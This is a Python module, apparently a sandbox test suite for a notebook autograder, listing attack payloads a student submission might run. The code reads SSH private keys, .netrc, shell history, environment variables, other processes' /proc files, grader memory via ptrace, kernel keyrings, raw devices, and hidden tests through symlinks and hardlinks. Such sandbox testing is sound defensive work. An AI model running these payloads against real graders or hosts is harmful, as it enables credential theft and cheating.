"""Read secrets: hidden tests, solutions, others' work, the grader's and the TA's own."""

from .kit import Attack, Link, Odd, all_doing, code, notebook, runs, text

# Shown in the ways in which a student would get it back.
_SHOW = """
import os, pathlib, re
def show(data):
    told = data if isinstance(data, str) else bytes(data).decode("latin-1")
    print(*set(re.findall("canary[a-z]+", told)), told[:500])
def show_file(path):
    try:
        show(pathlib.Path(path).expanduser().read_bytes()[:10_000_000])
    except OSError as error:
        print(error)
"""


def _reads(name: str, tries: str, *paths: str, **more: object) -> Attack:
    """An attack that shows files; of those in the course the path is from the student's folder."""
    return runs(name, tries, f"{_SHOW}for path in {list(paths)}: show_file(path)", **more)


_ALL_OVER = """
import time
until = time.monotonic() + 1
for root in ("/tmp", "/course", "/home", "/root", "/work", "/srv", "/mnt", "/var", "/run", "/dev"):
    for where, folders, names in os.walk(root):
        folders[:] = [f for f in folders if f not in ("lib", "lib64", "share", "node_modules")]
        for path in (os.path.join(where, name) for name in names):
            if time.monotonic() < until and os.path.isfile(path) and os.path.getsize(path) < 2**20:
                show_file(path)
"""
_PROCESSES = """
for pid in filter(str.isdigit, os.listdir("/proc")):
    for what in ("environ", "cmdline", "cwd/.course_seed", "cwd/gradebook.db", "maps",
                 "root/course/.course_seed"):
        show_file(f"/proc/{pid}/{what}")
    for fd in os.listdir(f"/proc/{pid}/fd") if os.access(f"/proc/{pid}/fd", os.R_OK) else ():
        if os.path.isfile(f"/proc/{pid}/fd/{fd}"):
            show_file(f"/proc/{pid}/fd/{fd}")
"""
_MEMORY = """
import ctypes
for pid in {os.getppid(), 1}:
    try:
        ctypes.CDLL(None).ptrace(16, pid, 0, 0)
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                if "[stack]" in line:
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    memory.seek(start)
                    show(memory.read(end - start))
    except OSError as error:
        print(error)
"""
_DESCRIPTORS = """
import fcntl, stat
for fd in range(3, 256):
    try:
        if stat.S_ISREG(os.fstat(fd).st_mode):
            show(os.pread(fd, 10_000_000, 0))
    except OSError:
        pass
"""
_KEYS = """
import ctypes
libc = ctypes.CDLL(None)
for ring in (-1, -2, -3, -4, -5):
    key = libc.syscall(250, 10, ctypes.c_int(ring), b"user", b"attacked", 0)
    room = ctypes.create_string_buffer(999)
    if libc.syscall(250, 11, key, room, 999) > 0:
        show(room.value)
"""
_NETWORK = """
import socket
for family, address in (
    (socket.AF_INET, ("127.0.0.1", 48765)), (socket.AF_INET, ("1.1.1.1", 53)),
    (socket.AF_INET6, ("::1", 48765)), (socket.AF_UNIX, "\\0attacked"),
):
    try:
        with socket.socket(family) as one:
            one.settimeout(0.2)
            one.connect(address)
            show(one.recv(100) or b"SANDBOX " + b"BREACHED")
    except OSError as error:
        print(error)
"""
_VSOCK = """
import socket
try:
    socket.socket(socket.AF_VSOCK)
    print("SANDBOX", "BREACHED")
except OSError as error:
    print(error)
"""
_DEVICES = """
import glob
for path in ["/dev/mem", "/dev/kmsg", "/dev/port", "/proc/kcore", "/proc/kmsg", "/dev/fuse",
             *glob.glob("/dev/[svhn][dvm]*")]:
    try:
        os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
        print("SANDBOX", "BREACHED", path)
    except OSError as error:
        print(error)
"""
_IN_THE_TEST = """
def told(*values):
    import inspect
    shell = get_ipython()
    print(shell.user_ns["In"][-1])
    print([frame.frame.f_locals for frame in inspect.stack()])
    raise ValueError(shell.user_ns["In"][-1])
"""
_ERRORS = """
try:
    found = open("../../../.course_seed").read() + os.environ.get("TA_TOKEN", "")
except OSError:
    found = os.environ.get("TA_TOKEN", "")
raise type(found or "Nothing", (Exception,), {})(found)
"""
_MAGIC = """
%cat ../../../.course_seed
!cat ../../../source/tiny/tiny.ipynb | head -c 5000
%env
!!printenv
%run ../../../source/tiny/tiny.ipynb
"""
_GRADER = """
import sys
for name, module in list(sys.modules.items()):
    if name.split(".")[0] in ("autograder", "autograde_tests", "tiny_tests", "nbgrader"):
        show(repr(vars(module)))
try:
    import tiny_course
    print("SANDBOX", "BREACHED")
except ImportError as error:
    print(error)
import gc
for one in gc.get_objects():
    if isinstance(one, (bytes, dict)) and "canary" + "hidden" in repr(one)[:10_000]:
        show(repr(one))
"""

ATTACKS = (
    _reads("source", "Reads the instructor's notebook.", "../../../source/tiny/tiny.ipynb"),
    _reads("gradebook", "Reads the gradebook.", "../../../gradebook.db"),
    _reads("seed", "Reads the secret of the tests' inputs.", "../../../.course_seed"),
    _reads(
        "neighbours",
        "Reads what others handed in, and how it was graded.",
        "../../../submitted/0-before/tiny/tiny.ipynb",
        "../../0-before/tiny/tiny.ipynb",
        "../../../feedback/0-before/tiny/tiny.html",
    ),
    _reads("home", "Reads the TA's files.", "~/.netrc", "~/.ssh/id_ed25519", "~/.bash_history"),
    runs("environment", "Reads the TA's environment.", _SHOW + "show(repr(os.environ))"),
    runs("all-over", "Looks through all folders.", _SHOW + _ALL_OVER),
    runs(
        "processes",
        "Reads other processes' environment, folders and files.",
        _SHOW + _PROCESSES,
        flagged="other processes",
    ),
    runs("memory", "Reads the memory of the grader.", _SHOW + _MEMORY, flagged="memory"),
    runs("descriptors", "Reads files that the grader has open.", _SHOW + _DESCRIPTORS),
    runs("keys", "Reads the keys that the kernel holds for the TA.", _SHOW + _KEYS),
    runs("network", "Asks services of this machine and others.", _SHOW + _NETWORK),
    runs("hypervisor", "Speaks with the machine that runs this one.", _VSOCK),
    runs("devices", "Reads disks and memory as devices.", _SHOW + _DEVICES),
    runs("magic", "Lets IPython's magics read.", _MAGIC),
    runs("modules", "Looks into modules and objects of the grader.", _SHOW + _GRADER),
    Attack(
        "hidden-test",
        "The hidden test's source is shown while it runs.",
        notebook(code(_IN_THE_TEST), answers=all_doing("return told()")),
    ),
    runs("errors", "A secret is an exception's name and message.", _SHOW + _ERRORS),
    Attack(
        "links-beside",
        "Links beside the notebook lead to secrets, for code to read or the grader to copy.",
        notebook(code(_SHOW + "for name in os.listdir(): show_file(name)")),
        files={
            "a.txt": Link("../../../.course_seed"),
            "b.txt": Link("../../../gradebook.db"),
            "c.ipynb": Link("../../../source/tiny/tiny.ipynb"),
            "d.txt": Link("../../0-before/tiny/tiny.ipynb"),
            "e.txt": Link("/etc/passwd"),
            "f.txt": Link("/proc/self/environ"),
        },
        flagged="left out",
    ),
    runs(
        "mounts",
        "Reads in /proc where the TA's folders lie.",
        "print('SANDBOX', 'BREACHED', open('/proc/self/mountinfo').read())",
        flagged="other processes",
    ),
    Attack(
        "folder-links",
        "Links to folders beside the notebook lead to secrets.",
        notebook(
            code(
                _SHOW + "for p in pathlib.Path('.').rglob('*'): show_file(p)\n"
                "for p in ('s/tiny/tiny.ipynb', 'c/.course_seed'): show_file(p)"
            )
        ),
        files={"s": Link("../../../source"), "c": Link("../../..")},
        flagged="left out",
    ),
    Attack(
        "second-names",
        "A file beside the notebook is a second name of a secret's.",
        notebook(code(_SHOW + "for name in os.listdir(): show_file(name)")),
        files={
            "seed.txt": Link("../../../.course_seed", hard=True),
            "other.txt": Link("../../0-before/tiny/tiny.ipynb", hard=True),
        },
    ),
    Attack(
        "pictures",
        "The page is to bring secrets along as pictures.",
        notebook(
            text("![x](../../../.course_seed) ![y](/etc/passwd) ![z](attachment:../../x)"),
            text("<img src='../../../.course_seed'><object data='../../../gradebook.db'></object>"),
        ),
        files={"x": Odd("pipe")},
    ),
    Attack(
        "what-is-left",
        "Reads what the submission before has left behind.",
        notebook(
            code("""
                import glob, os
                places = ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), ".")
                if any(glob.glob(place + "/attacked*") for place in places):
                    print("SANDBOX", "BREACHED")
                for place in places:
                    try:
                        open(place + "/attacked-left", "w").close()
                    except OSError as error:
                        print(error)
            """)
        ),
        twice=True,
    ),
)
